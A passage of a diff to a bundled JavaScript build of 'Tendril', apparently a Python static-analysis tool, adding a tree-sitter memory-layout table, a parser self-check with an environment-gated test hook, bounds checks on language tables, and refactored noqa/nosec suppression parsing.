+    // struct TSFieldMapEntry.
+    fieldEntrySize: entry(4, 'size of a TSFieldMapEntry', 'parser.h: TSFieldMapEntry {TSFieldId field_id, uint8_t child_index, bool inherited}'),
+    fieldEntryFieldId: entry(0, 'offset of the field id (u16)', 'parser.h: TSFieldMapEntry.field_id'),
+    fieldEntryChildIndex: entry(2, 'offset of the structural child index (u8)', 'parser.h: TSFieldMapEntry.child_index'),
+    fieldEntryInherited: entry(3, 'offset of `inherited` (bool)', 'parser.h: TSFieldMapEntry.inherited'),
+});
+/** The numbers of TREE_LAYOUT. */
+exports.LAYOUT = Object.freeze(Object.fromEntries(Object.entries(exports.TREE_LAYOUT).map(([name, e]) => [name, e.value])));
+/**
+ * A layout with one entry wrong, for the tests that prove a wrong layout stops the run
+ * (test/unit/tree-layout.test.ts, test/e2e/broken-layout.test.ts). `spec` is an entry name, which
+ * moves an offset or a size by 4, a bit one place up, a constant by 1 and an ABI bound past the
+ * other, or `name=number`.
+ */
+function brokenLayout(spec) {
+    const [name, value] = spec.split('=', 2);
+    const found = exports.TREE_LAYOUT[name];
+    if (!found)
+        throw new Error(`TENDRIL_TEST_BREAK_LAYOUT: no layout entry '${name}' (entries: ${Object.keys(exports.TREE_LAYOUT).join(', ')})`);
+    let broken;
+    if (value !== undefined)
+        broken = Number(value);
+    else if (/^(inline|heap)(IsInline|Visible|Named|Extra|Missing)$/.test(name))
+        broken = found.value * 2;
+    else if (name === 'abiMin')
+        broken = exports.LAYOUT.abiMax + 1;
+    else if (name === 'abiMax')
+        broken = exports.LAYOUT.abiMin - 1;
+    else if (name === 'errorSymbol' || name === 'unitShift' || name === 'handleAddress')
+        broken = found.value + 1;
+    else
+        broken = found.value + 4;
+    if (!Number.isInteger(broken))
+        throw new Error(`TENDRIL_TEST_BREAK_LAYOUT: '${value}' is not an integer`);
+    return Object.freeze({ ...exports.LAYOUT, [name]: broken });
+}
+
+
+/***/ }),
+
+/***/ 4164:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.symbolAt = symbolAt;
+exports.matchKeyOf = matchKeyOf;
+exports.annotateMatchKeys = annotateMatchKeys;
+const crypto = __importStar(__nccwpck_require__(6982));
+/**
+ * The line-independent part of a finding's identity, for baselines: the rule, the enclosing
+ * symbol (`Class.method`, `<module>` at top level) and the source of the flagged construct with
+ * all whitespace removed (so re-indenting or re-wrapping it does not make it new). The path and
+ * the occurrence index complete the key at classification time (src/baseline/classify.ts): the
+ * path because a rename maps it, the index because it depends on the other findings.
+ */
+function symbolAt(tree, row, column) {
+    // A reference implementation on web-tree-sitter's own tree (the tests check annotateMatchKeys
+    // against it): down from the root with a cursor.
+    const names = [];
+    const cursor = tree.walk();
+    const before = (p) => p.row < row || (p.row === row && p.column <= column);
+    try {
+        const after = (p) => p.row > row || (p.row === row && p.column > column);
+        for (;;) {
+            // Into the child that holds the position, if any.
+            if (!cursor.gotoFirstChild())
+                break;
+            while (!after(cursor.endPosition) && cursor.gotoNextSibling())
+                ;
+            if (!before(cursor.startPosition) || !after(cursor.endPosition))
+                break;
+            const type = cursor.nodeType;
+            if (type === 'function_definition' || type === 'class_definition') {
+                const name = cursor.currentNode.childForFieldName('name');
+                // A finding on the name itself (`def f`) belongs to the scope outside f.
+                const onName = name && name.startPosition.row === row && name.startPosition.column <= column && column < name.endPosition.column;
+                if (name && !onName)
+                    names.push(name.text);
+            }
+        }
+    }
+    finally {
+        cursor.delete();
+    }
+    return names.length ? names.join('.') : '<module>';
+}
+function matchKeyOf(ruleId, symbol, snippet) {
+    const normalised = snippet.replace(/\s+/g, '');
+    return sha256Hex(`${ruleId}\0${symbol}\0${normalised}`).slice(0, 32);
+}
+// One-shot hashing where the runtime has it (Node 20.12+): no Hash object per finding.
+const oneShot = crypto.hash;
+const sha256Hex = oneShot
+    ? (data) => oneShot('sha256', data, 'hex')
+    : (data) => crypto.createHash('sha256').update(data).digest('hex');
+const DEFINITIONS = ['function_definition', 'class_definition'];
+/**
+ * Fills in `matchKey` for the findings of one file (called by the engine while the tree lives).
+ * One pass for all findings: the function and class definitions come from the flat tree in
+ * pre-order (nested ones after their parent), and a sweep over the findings in order keeps the stack
+ * of definitions that enclose the current one. The same symbols as `symbolAt`, without walking
+ * the tree once per finding (a file with thousands of findings at one level was quadratic).
+ */
+function annotateMatchKeys(findings, text, tree) {
+    if (findings.length === 0)
+        return;
+    const offset = (line, column) => tree.rowStart(line - 1) + column - 1;
+    const definitions = [];
+    // The tree is in pre-order: definitions come in document order, nested ones after their parent.
+    const isDefinition = tree.typeSet(DEFINITIONS);
+    const { symbol } = tree;
+    for (let i = 0; i < tree.count; i++) {
+        if (isDefinition[symbol[i]] !== 1)
+            continue;
+        const name = tree.node(i).childForFieldName('name');
+        definitions.push({
+            start: tree.startIndex[i],
+            end: tree.endIndex[i],
+            nameStart: name ? name.startIndex : -1,
+            nameEnd: name ? name.endIndex : -1,
+            name: name ? text.slice(name.startIndex, name.endIndex) : '',
+        });
+    }
+    const order = findings.map((f, i) => ({ f, i, at: offset(f.line, f.column) })).sort((a, b) => a.at - b.at || a.i - b.i);
+    const open = [];
+    let next = 0;
+    for (const { f, at } of order) {
+        while (next < definitions.length && definitions[next].start <= at) {
+            const d = definitions[next++];
+            while (open.length > 0 && open[open.length - 1].end <= d.start)
+                open.pop();
+            open.push(d);
+        }
+        while (open.length > 0 && open[open.length - 1].end <= at)
+            open.pop();
+        // A finding on a definition's own name (`def f`) belongs to the scope outside it.
+        const names = open.filter((d) => d.name && !(d.nameStart <= at && at < d.nameEnd)).map((d) => d.name);
+        const snippet = text.slice(at, offset(f.endLine, f.endColumn));
+        f.matchKey = matchKeyOf(f.ruleId, names.length ? names.join('.') : '<module>', snippet);
+    }
+}
+
+
+/***/ }),
+
 /***/ 3715:
 /***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
 
@@ -4995,9 +4731,13 @@ exports.getParser = getParser;
 const fs = __importStar(__nccwpck_require__(9896));
 const path = __importStar(__nccwpck_require__(6928));
 const web_tree_sitter_1 = __nccwpck_require__(3778);
+const layout_1 = __nccwpck_require__(3638);
+const selfcheck_1 = __nccwpck_require__(4896);
 const tree_1 = __nccwpck_require__(3036);
 /**
- * Loads tree-sitter (WebAssembly) and the Python grammar once per thread.
+ * Loads tree-sitter (WebAssembly) and the Python grammar once per thread, and checks that the
+ * tree copy reads the runtime's memory right (src/engine/selfcheck.ts) before anything is parsed:
+ * on a mismatch, every use of the parser fails with that one message.
  *
  * Both `.wasm` files are read from disk and handed over as bytes: next to the bundle in `dist/`
  * (copied there by `scripts/build.js`), or from `node_modules` when running from source.
@@ -5031,6 +4771,13 @@ function getParser() {
             const language = await web_tree_sitter_1.Language.load(fs.readFileSync(locateWasm('python')));
             const parser = new web_tree_sitter_1.Parser();
             parser.setLanguage(language);
+            // Test hook, also in the bundles: TENDRIL_TEST_BREAK_LAYOUT=<entry of TREE_LAYOUT> makes that one
+            // entry wrong (src/engine/layout.ts, brokenLayout), so that tests can see the self-check stop
+            // the run (test/e2e/broken-layout.test.ts). Only the environment sets it, never the scanned files.
+            const broken = process.env.TENDRIL_TEST_BREAK_LAYOUT;
+            if (broken)
+                (0, tree_1.useTreeLayout)((0, layout_1.brokenLayout)(broken));
+            (0, selfcheck_1.checkTreeLayout)(parser);
             return parser;
         })();
     }
@@ -5107,7 +4854,7 @@ async function analyzeFile(file, ruleSet, budget = analyze_1.DEFAULT_BUDGET) {
     }
     if (bytes.length > budget.maxFileSize)
         return tooLarge(bytes.length);
-    return (0, analyze_1.analyzeSource)(file.rel, bytes, ruleSet.rules, ruleSet.options, budget);
+    return (0, analyze_1.analyzeSource)(file.rel, bytes, ruleSet.rules, ruleSet.options, budget, ruleSet.ruleIds);
 }
 /**
  * Below this many bytes of source per worker, workers that have no idle core beside them run
@@ -5196,7 +4943,7 @@ async function analyzeFiles(files, ruleSets, options) {
     let next = 0;
     const setup = {
         tendrilWorker: true,
-        ruleSets: ruleSets.map((s) => ({ ruleIds: s.rules.map((r) => r.meta.id), options: s.options })),
+        ruleSets: ruleSets.map((s) => ({ ruleIds: s.rules.map((r) => r.meta.id), options: s.options, known: s.ruleIds && [...s.ruleIds] })),
         budget,
     };
     const script = options.workerScript;
@@ -5211,7 +4958,7 @@ async function analyzeFiles(files, ruleSets, options) {
         // look (inside the parser, or one long step of a rule): twice the budget, plus slack.
         const arm = () => {
             clearTimeout(watchdog);
-            watchdog = setTimeout(() => abandon(), (budget.timeoutSeconds * 2 + 10) * 1000);
+            watchdog = setTimeout(() => abandon(), budget.timeoutSeconds * 2000 + (options.watchdogGraceMs ?? 10_000));
         };
         const feed = () => {
             clearTimeout(watchdog);
@@ -5257,6 +5004,211 @@ async function analyzeFiles(files, ruleSets, options) {
     });
     await Promise.all(Array.from({ length: threads }, runWorker));
     return results;
+}
+
+
+/***/ }),
+
+/***/ 4896:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.SELF_CHECK_TREE = exports.SELF_CHECK_SNIPPET = void 0;
+exports.describeTree = describeTree;
+exports.checkTreeLayout = checkTreeLayout;
+const layout_1 = __nccwpck_require__(3638);
+const tree_1 = __nccwpck_require__(3036);
+/**
+ * The self-check of the tree copy, run once per thread when the parser loads
+ * (src/engine/parser.ts): a known snippet is parsed and copied (src/engine/tree.ts), and the copy
+ * must be the expected tree below and agree, node for node, with what web-tree-sitter's own API
+ * says of the same tree. The copy reads tree-sitter's memory with the offsets of
+ * src/engine/layout.ts, which no compiler checks; when they are wrong (another web-tree-sitter,
+ * another grammar), this stops the run before anything is analysed, instead of every file
+ * failing, or worse, giving wrong findings.
+ *
+ * The snippet touches every entry of the layout: inline leaves (keywords, names) and heap ones
+ * (the string's external tokens, a comment over 255 bytes), fields, aliases that reveal a hidden
+ * rule as a named node (the one-line `if` body, a `block`) and as an anonymous one (`not in`),
+ * extras (comments), an ERROR node, a MISSING token (a heap one: the token after it and its
+ * padding, its lookahead, are over 16 bytes), padding across a line (bytes and columns differ), and
+ * a character outside the BMP (offsets in UTF-16 units). test/unit/tree-layout.test.ts breaks each
+ * entry in turn and expects this check to fail.
+ */
+exports.SELF_CHECK_SNIPPET = 'def f(a, *b):\n' +
+    '    """\\q \u00e9 \u{1f600}"""\n' +
+    '    return a.c[0] if b not in a' + ' '.repeat(256) + 'else None  # c\n' +
+    'if a: print(b\n )\n' +
+    '{[if 1' + ' '.repeat(9) + '}\n' +
+    '#' + 'x'.repeat(260) + '\n';
+/**
+ * The copy of the snippet: one line per node in pre-order, indented by depth, as `field: type
+ * start-end`, with anonymous types in quotes and ` extra`, ` missing`, ` error` (has an error).
+ */
+exports.SELF_CHECK_TREE = [
+    'module 0-630 error',
+    '  function_definition 0-333',
+    '    "def" 0-3',
+    '    name: identifier 4-5',
+    '    parameters: parameters 5-12',
+    '      "(" 5-6',
+    '      identifier 6-7',
+    '      "," 7-8',
+    '      list_splat_pattern 9-11',
+    '        "*" 9-10',
+    '        identifier 10-11',
+    '      ")" 11-12',
+    '    ":" 12-13',
+    '    body: block 18-333',
+    '      expression_statement 18-31',
+    '        string 18-31',
+    '          string_start 18-21',
+    '          string_content 21-28',
+    '            "\\\\" 21-22',
+    '          string_end 28-31',
+    '      return_statement 36-328',
+    '        "return" 36-42',
+    '        conditional_expression 43-328',
+    '          subscript 43-49',
+    '            value: attribute 43-46',
+    '              object: identifier 43-44',
+    '              "." 44-45',
+    '              attribute: identifier 45-46',
+    '            "[" 46-47',
+    '            subscript: integer 47-48',
+    '            "]" 48-49',
+    '          "if" 50-52',
+    '          comparison_operator 53-63',
+    '            identifier 53-54',
+    '            operators: "not in" 55-61',
+    '              "not" 55-58',
+    '              "in" 59-61',
+    '            identifier 62-63',
+    '          "else" 319-323',
+    '          none 324-328',
+    '      comment 330-333 extra',
+    '  if_statement 334-350',
+    '    "if" 334-336',
+    '    condition: identifier 337-338',
+    '    ":" 338-339',
+    '    consequence: block 340-350',
+    '      expression_statement 340-350',
+    '        call 340-350',
+    '          function: identifier 340-345',
+    '          arguments: argument_list 345-350',
+    '            "(" 345-346',
+    '            identifier 346-347',
+    '            ")" 349-350',
+    '  expression_statement 351-367 error',
+    '    set 351-367 error',
+    '      "{" 351-352',
+    '      list 352-357 error',
+    '        "[" 352-353',
+    '        ERROR 353-355 extra error',
+    '          "if" 353-355',
+    '        integer 356-357',
+    '        "]" 357-357 missing error',
+    '      "}" 366-367',
+    '  comment 368-629 extra',
+];
+/** One line of SELF_CHECK_TREE for node i of a copy. */
+function describe(tree, i) {
+    let depth = 0;
+    for (let p = tree.parentOf[i]; p >= 0; p = tree.parentOf[p])
+        depth++;
+    const node = tree.node(i);
+    const field = node.fieldName;
+    return ('  '.repeat(depth) +
+        (field ? `${field}: ` : '') +
+        (node.isNamed ? node.type : JSON.stringify(node.type)) +
+        ` ${node.startIndex}-${node.endIndex}` +
+        (node.isExtra ? ' extra' : '') +
+        (node.isMissing ? ' missing' : '') +
+        (node.hasError ? ' error' : ''));
+}
+/** The copy of the snippet, described as SELF_CHECK_TREE is. */
+function describeTree(tree) {
+    return Array.from({ length: tree.count }, (_, i) => describe(tree, i));
+}
+/** The first difference between web-tree-sitter's view of its tree and the copy, if any. */
+function firstDifference(parsed, copy) {
+    const cursor = parsed.walk();
+    const parents = [];
+    let i = 0;
+    try {
+        for (;;) {
+            const node = cursor.currentNode;
+            if (i >= copy.count)
+                return `the copy has ${copy.count} nodes, tree-sitter more`;
+            const ours = copy.node(i);
+            const pairs = [
+                ['type', node.type, ours.type],
+                ['symbol', node.typeId, copy.symbol[i]],
+                ['isNamed', node.isNamed, ours.isNamed],
+                ['isExtra', node.isExtra, ours.isExtra],
+                ['isMissing', node.isMissing, ours.isMissing],
+                ['hasError', node.hasError, ours.hasError],
+                ['startIndex', node.startIndex, ours.startIndex],
+                ['endIndex', node.endIndex, ours.endIndex],
+                ['field', cursor.currentFieldName ?? null, ours.fieldName],
+                ['parent', parents.length ? parents[parents.length - 1] : -1, copy.parentOf[i]],
+            ];
+            for (const [what, theirs, mine] of pairs) {
+                if (theirs !== mine)
+                    return `node ${i} (${node.type} at ${node.startIndex}): ${what} is ${String(mine)} in the copy, ${String(theirs)} in tree-sitter`;
+            }
+            i++;
+            if (cursor.gotoFirstChild()) {
+                parents.push(i - 1);
+                continue;
+            }
+            for (;;) {
+                if (cursor.gotoNextSibling())
+                    break;
+                if (!cursor.gotoParent())
+                    return i === copy.count ? undefined : `the copy has ${copy.count} nodes, tree-sitter ${i}`;
+                parents.pop();
+            }
+        }
+    }
+    finally {
+        cursor.delete();
+    }
+}
+/** Throws the one message a failed self-check gives: the layout does not match the runtime. */
+function mismatch(detail) {
+    return new Error(`the syntax tree layout does not match web-tree-sitter ${layout_1.WEB_TREE_SITTER_VERSION}; ${detail}. ` +
+        `Tendril reads tree-sitter's memory as web-tree-sitter ${layout_1.WEB_TREE_SITTER_VERSION} and tree-sitter-python ${layout_1.TREE_SITTER_PYTHON_VERSION} ` +
+        'lay it out (src/engine/layout.ts), and needs exactly these versions; nothing was analysed');
+}
+/** Parses and copies the snippet; throws the layout mismatch on any difference. */
+function checkTreeLayout(parser) {
+    const parsed = parser.parse(exports.SELF_CHECK_SNIPPET);
+    if (!parsed)
+        throw mismatch('the parser gave no tree for the self-check snippet');
+    try {
+        let copy;
+        try {
+            copy = tree_1.SyntaxTree.from(parsed, exports.SELF_CHECK_SNIPPET);
+        }
+        catch (error) {
+            throw mismatch(`the copy of the self-check snippet failed: ${error instanceof Error ? error.message : String(error)}`);
+        }
+        const difference = firstDifference(parsed, copy);
+        if (difference)
+            throw mismatch(`in the self-check snippet, ${difference}`);
+        const lines = describeTree(copy);
+        const k = lines.findIndex((line, n) => line !== exports.SELF_CHECK_TREE[n]);
+        if (k >= 0 || lines.length !== exports.SELF_CHECK_TREE.length) {
+            const at = k >= 0 ? k : Math.min(lines.length, exports.SELF_CHECK_TREE.length);
+            throw mismatch(`the self-check snippet's tree is not the expected one at node ${at}: ` +
+                `${JSON.stringify(lines[at]?.trim() ?? null)}, expected ${JSON.stringify(exports.SELF_CHECK_TREE[at]?.trim() ?? null)}`);
+        }
+    }
+    finally {
+        parsed.delete();
+    }
 }
 
 
@@ -5335,38 +5287,26 @@ function decodeSource(bytes) {
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.UNUSED_SUPPRESSION_ID = void 0;
-exports.rulesForCode = rulesForCode;
 exports.parseDirectives = parseDirectives;
 exports.applyDirectives = applyDirectives;
 exports.unusedCodes = unusedCodes;
-const rules_1 = __nccwpck_require__(5755);
+const api_1 = __nccwpck_require__(6750);
 const CODE = /^[A-Za-z]+[0-9]+$/;
-const RULE_IDS = new Set(rules_1.ALL_RULES.map((r) => r.meta.id));
 /** Codes until the first word that is neither a code (F401, B602) nor a rule id (free text follows). */
-function codeList(raw, allowNames) {
+function codeList(raw, allowNames, ruleIds) {
     if (!raw)
         return [];
     const codes = [];
     for (const word of raw.split(/[\s,]+/).filter(Boolean)) {
-        if (CODE.test(word) || RULE_IDS.has(word) || (allowNames && /^[a-z][a-z0-9-]*$/.test(word)))
+        if (CODE.test(word) || ruleIds.has(word) || (allowNames && /^[a-z][a-z0-9-]*$/.test(word)))
             codes.push(word);
         else
             break;
     }
     return codes;
 }
-/** Rules a code names: a rule id, or an alias (case-insensitive); `all` (pylint) names every rule. */
-function rulesForCode(code) {
-    const upper = code.toUpperCase();
-    if (code === 'all')
-        return rules_1.ALL_RULES;
-    return rules_1.ALL_RULES.filter((r) => r.meta.id === code || r.meta.aliases.some((a) => a.toUpperCase() === upper));
-}
 function codeMatches(code, meta) {
-    if (code === 'all')
-        return true;
-    const upper = code.toUpperCase();
-    return meta.id === code || meta.aliases.some((a) => a.toUpperCase() === upper);
+    return code === 'all' || (0, api_1.namesRule)(code, meta);
 }
 /** The first line after `row` (0-based) where code indented less than `column` starts, as 1-based line - 1. */
 function blockEnd(lines, row, column) {
@@ -5380,8 +5320,11 @@ function blockEnd(lines, row, column) {
     }
     return lines.length;
 }
-/** Reads the directives in a file's comments (in source order). */
-function parseDirectives(comments, text) {
+/**
+ * Reads the directives in a file's comments (in source order). `ruleIds` are the ids of every rule
+ * in the catalogue, enabled or not, so that `# noqa: unused-import` reads the same either way.
+ */
+function parseDirectives(comments, text, ruleIds) {
     const directives = [];
     let lines;
     const make = (c, written, codes, from, to, lineLevel) => ({
@@ -5406,15 +5349,15 @@ function parseDirectives(comments, text) {
             continue;
         }
         if ((m = /#\s*ruff\s*:\s*noqa\b(?::\s*([^#]*))?/i.exec(c.text))) {
-            directives.push(make(c, m[0], m[1] === undefined ? undefined : codeList(m[1], false), 1, Number.MAX_SAFE_INTEGER, false));
+            directives.push(make(c, m[0], m[1] === undefined ? undefined : codeList(m[1], false, ruleIds), 1, Number.MAX_SAFE_INTEGER, false));
             continue;
         }
         for (const re of [/#\s*noqa\b(?::\s*([^#]*))?/gi, /#\s*nosec\b:?\s*([^#]*)/gi]) {
             while ((m = re.exec(c.text)))
-                directives.push(make(c, m[0], codeList(m[1], false), line, line, true));
+                directives.push(make(c, m[0], codeList(m[1], false, ruleIds), line, line, true));
         }
         for (const re = /#\s*tendril\s*:\s*ignore\b(?:\[([^\]]*)\])?/gi; (m = re.exec(c.text));) {
-            directives.push(make(c, m[0], codeList(m[1], false), line, line, true));
+            directives.push(make(c, m[0], codeList(m[1], false, ruleIds), line, line, true));
         }
         for (const re = /#\s*pylint\s*:\s*(disable|disable-next|enable)\s*=\s*([\w\s,-]*)/gi; (m = re.exec(c.text));) {
             const names = m[2].split(/[\s,]+/).filter(Boolean);
@@ -5475,7 +5418,7 @@ function applyDirectives(findings, directives, rules) {
 }
 exports.UNUSED_SUPPRESSION_ID = 'unused-suppression';
 /**
- * Codes of a directive that name an enabled Tendril rule and suppressed nothing. Bare directives
+ * Codes of a directive that name one of the `enabled` rules and suppressed nothing. Bare directives
  * and codes Tendril does not implement (E501) are never "unused": they may be there for another
  * tool. Codes naming `unused-suppression` itself are not judged.
  */
@@ -5485,10 +5428,8 @@ function unusedCodes(d, enabled) {
     return d.codes.filter((code) => {
         if (d.used.has(code.toUpperCase()) || code === 'all')
             return false;
-        const named = rulesForCode(code);
-        if (named.some((r) => r.meta.id === exports.UNUSED_SUPPRESSION_ID))
-            return false;
-        return named.some((r) => enabled.has(r.meta.id));
+        const named = enabled.filter((rule) => codeMatches(code, rule.meta));
+        return named.length > 0 && !named.some((rule) => rule.meta.id === exports.UNUSED_SUPPRESSION_ID);
     });
 }
 
@@ -5496,23 +5437,37 @@ function unusedCodes(d, enabled) {
 /***/ }),
 
 /***/ 3036:
-/***/ ((__unused_webpack_module, exports) => {
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.SyntaxNode = exports.SyntaxTree = exports.FLAG_NAMED = void 0;
 exports.setRuntimeMemory = setRuntimeMemory;
+exports.useTreeLayout = useTreeLayout;
+const layout_1 = __nccwpck_require__(3638);
 let runtime;
+/** The layout the copy reads with: TREE_LAYOUT, unless a test broke one entry (useTreeLayout). */
+let layout = layout_1.LAYOUT;
 /** Called once by src/engine/parser.ts with the module object it passed to `Parser.init`. */
 function setRuntimeMemory(memory) {
     runtime = memory;
 }
+/** The copy's own symbol for ERROR nodes (tree-sitter's `errorSymbol`, stored as is). */
 const ERROR_SYMBOL = 0xffff;
 exports.FLAG_NAMED = 1;
 const FLAG_MISSING = 2;
 const FLAG_EXTRA = 4;
 const FLAG_HAS_ERROR = 8;
-const tablesCache = new WeakMap();
+let tablesCache = new WeakMap();
+/**
+ * @internal Sets the layout the copy reads with (default: TREE_LAYOUT), for the tests that break
+ * one entry and for the TENDRIL_TEST_BREAK_LAYOUT hook of src/engine/parser.ts. Forgets the
+ * language tables read with the previous one.
+ */
+function useTreeLayout(next = layout_1.LAYOUT) {
+    layout = next;
+    tablesCache = new WeakMap();
+}
 function memory() {
     const m = runtime;
     if (!m?.HEAPU8 || !m.HEAPU16 || !m.HEAPU32)
@@ -5520,59 +5475,93 @@ function memory() {
     return { u8: m.HEAPU8, u16: m.HEAPU16, u32: m.HEAPU32 };
 }
 function addressOf(handle) {
-    return handle[0];
+    return handle[layout.handleAddress];
 }
-/** Reads and checks the language tables; throws when the layout is not the one this file knows. */
+/** Reads and checks the language tables; throws when they do not fit the layout this file knows. */
 function tablesFor(language) {
     const cached = tablesCache.get(language);
     if (cached)
         return cached;
+    const L = layout;
     const { u8, u16, u32 } = memory();
     const at = addressOf(language);
     const word = (offset) => u32[(at + offset) >>> 2];
-    const abi = word(0);
-    const symbolCount = word(4);
-    const aliasCount = word(8);
-    const productionIdCount = word(28);
-    const fieldCount = word(32);
-    const maxAlias = u16[(at + 36) >>> 1];
-    const fieldMapSlices = word(64);
-    const fieldMapEntries = word(68);
-    const symbolMetadata = word(72);
-    const publicSymbolMap = word(76);
-    const aliasSequences = word(84);
-    if ((abi !== 14 && abi !== 15) || symbolCount + aliasCount !== language.types.length || fieldCount !== language.fields.length - 1) {
-        throw new Error(`unsupported tree-sitter language layout (ABI ${abi}, ${symbolCount}+${aliasCount} symbols, ${fieldCount} fields; ` +
-            `expected ${language.types.length} symbols and ${language.fields.length - 1} fields)`);
+    const abi = word(L.languageAbiVersion);
+    const symbolCount = word(L.languageSymbolCount);
+    const aliasCount = word(L.languageAliasCount);
+    const productionIdCount = word(L.languageProductionIdCount);
+    const fieldCount = word(L.languageFieldCount);
+    const maxAlias = u16[(at + L.languageMaxAliasSequenceLength) >>> 1];
+    const fieldMapSlices = word(L.languageFieldMapSlices);
+    const fieldMapEntries = word(L.languageFieldMapEntries);
+    const symbolMetadata = word(L.languageSymbolMetadata);
+    const publicSymbolMap = word(L.languagePublicSymbolMap);
+    const aliasSequences = word(L.languageAliasSequences);
+    const unsupported = (why) => new Error(`unsupported tree-sitter language layout: ${why}`);
+    if (!(abi >= L.abiMin && abi <= L.abiMax) || symbolCount + aliasCount !== language.types.length || fieldCount !== language.fields.length - 1) {
+        throw unsupported(`ABI ${abi}, ${symbolCount}+${aliasCount} symbols, ${fieldCount} fields; ` +
+            `expected ABI ${L.abiMin} to ${L.abiMax}, ${language.types.length} symbols and ${language.fields.length - 1} fields`);
     }
+    // Production ids are u16 (SubtreeHeapData.production_id); every table must lie in the memory.
+    if (!(productionIdCount <= 0x10000))
+        throw unsupported(`${productionIdCount} production ids`);
+    const within = (name, address, bytes) => {
+        if (!(address > 0 && address + bytes <= u8.length))
+            throw unsupported(`${name} at ${address} (${bytes} bytes) is outside the memory`);
+    };
     const total = symbolCount + aliasCount;
+    within('symbol_metadata', symbolMetadata, total * L.metadataSize);
+    within('public_symbol_map', publicSymbolMap, total * L.symbolSize);
+    if (aliasSequences)
+        within('alias_sequences', aliasSequences, productionIdCount * maxAlias * L.symbolSize);
+    if (fieldCount)
+        within('field_map_slices', fieldMapSlices, productionIdCount * L.sliceSize);
     const publicSymbol = new Uint16Array(total);
     const named = new Uint8Array(total);
     for (let s = 0; s < total; s++) {
-        publicSymbol[s] = u16[(publicSymbolMap >>> 1) + s];
-        named[s] = u8[symbolMetadata + s * 3 + 1];
+        publicSymbol[s] = u16[(publicSymbolMap + s * L.symbolSize) >>> 1];
+        named[s] = u8[symbolMetadata + s * L.metadataSize + L.metadataNamed];
+        if (named[s] > 1 || publicSymbol[s] >= total)
+            throw unsupported(`symbol ${s} has public symbol ${publicSymbol[s]} and named ${named[s]}`);
+    }
+    // What web-tree-sitter's API says of the visible symbols must be what the tables say.
+    for (let s = 0; s < total; s++) {
+        if (!language.nodeTypeIsVisible(s))
+            continue;
+        if (language.types[publicSymbol[s]] !== language.types[s] || (named[s] === 1) !== language.nodeTypeIsNamed(s)) {
+            throw unsupported(`symbol ${s} (${language.types[s]}) has public symbol ${publicSymbol[s]} and named ${named[s]}, not what web-tree-sitter says`);
+        }
     }
     const aliases = new Uint16Array(productionIdCount * maxAlias);
-    if (aliasSequences)
-        for (let k = 0; k < aliases.length; k++)
-            aliases[k] = u16[(aliasSequences >>> 1) + k];
-    // Field maps: TSMapSlice {u16 index, u16 length} by production id; TSFieldMapEntry {u16 field_id, u8 child_index, bool inherited}.
+    if (aliasSequences) {
+        for (let k = 0; k < aliases.length; k++) {
+            aliases[k] = u16[(aliasSequences + k * L.symbolSize) >>> 1];
+            if (aliases[k] >= total)
+                throw unsupported(`alias ${aliases[k]} is not a symbol`);
+        }
+    }
+    // Field maps: a TSMapSlice by production id, into the TSFieldMapEntry list.
     let fieldWidth = 1;
     const slices = [];
     for (let p = 0; p < productionIdCount; p++) {
-        const index = fieldCount ? u16[(fieldMapSlices >>> 1) + p * 2] : 0;
-        const length = fieldCount ? u16[(fieldMapSlices >>> 1) + p * 2 + 1] : 0;
+        const slice = fieldMapSlices + p * L.sliceSize;
+        const index = fieldCount ? u16[(slice + L.sliceIndex) >>> 1] : 0;
+        const length = fieldCount ? u16[(slice + L.sliceLength) >>> 1] : 0;
+        if (length)
+            within('field_map_entries', fieldMapEntries + index * L.fieldEntrySize, length * L.fieldEntrySize);
         slices.push([index, length]);
         for (let e = index; e < index + length; e++)
-            fieldWidth = Math.max(fieldWidth, u8[fieldMapEntries + e * 4 + 2] + 1);
+            fieldWidth = Math.max(fieldWidth, u8[fieldMapEntries + e * L.fieldEntrySize + L.fieldEntryChildIndex] + 1);
     }
     const fields = new Uint16Array(productionIdCount * fieldWidth);
     slices.forEach(([index, length], p) => {
         for (let e = index; e < index + length; e++) {
-            const entry = fieldMapEntries + e * 4;
-            const fieldId = u16[entry >>> 1];
-            const child = u8[entry + 2];
-            const inherited = u8[entry + 3];
+            const entry = fieldMapEntries + e * L.fieldEntrySize;
+            const fieldId = u16[(entry + L.fieldEntryFieldId) >>> 1];
+            const child = u8[entry + L.fieldEntryChildIndex];
+            const inherited = u8[entry + L.fieldEntryInherited];
+            if (fieldId === 0 || fieldId > fieldCount || inherited > 1)
+                throw unsupported(`field map entry ${e} has field ${fieldId} and inherited ${inherited}`);
             if (!inherited && fields[p * fieldWidth + child] === 0)
                 fields[p * fieldWidth + child] = fieldId;
         }
@@ -5935,12 +5924,41 @@ function copyTree(tree, text) {
     const tables = tablesFor(tree.language);
     const { u8, u16, u32 } = memory();
     const { publicSymbol, named: namedMeta, aliases, maxAlias, fields, fieldWidth } = tables;
